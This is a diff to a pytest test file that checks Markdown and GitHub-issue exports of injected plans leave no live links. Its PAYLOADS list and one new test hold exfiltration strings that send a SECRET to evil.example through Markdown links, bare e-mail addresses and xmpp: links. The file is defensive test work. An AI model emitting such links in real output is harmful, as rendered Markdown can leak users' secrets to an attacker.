@@ -25,6 +25,9 @@ PAYLOADS = [
     "``a` [x](https://evil.example/steal?d=SECRET)",
     "see www.evil.example/steal?d=SECRET now",
     "[proto](//evil.example/steal?d=SECRET)",
+    # GitHub links a bare e-mail address and xmpp: as mailto:/xmpp: links.
+    "mail SECRET@evil.example now",
+    "xmpp:SECRET@evil.example",
 ]
 _commonmark = MarkdownIt("commonmark", {"html": True})
 
@@ -115,6 +118,17 @@ def test_a_markdown_export_of_an_injected_plan_leaves_nothing_live(injected_plan
     text = exports.EXPORTS[kind].render(injected_plan)
 
     assert "evil.example" in text  # shown, not dropped
+    assert live_parts(text) == []
+
+
+@pytest.mark.django_db
+def test_a_github_issue_without_a_summary_shows_the_title_inert(injected_plan):
+    injected_plan.structured = {**injected_plan.structured, "summary": ""}
+    injected_plan.save()
+
+    text = exports.EXPORTS["github"].render(injected_plan)
+
+    assert text.startswith("Plan \\[x\\](`https://evil.example/steal?d=SECRET`)")
     assert live_parts(text) == []
 
 
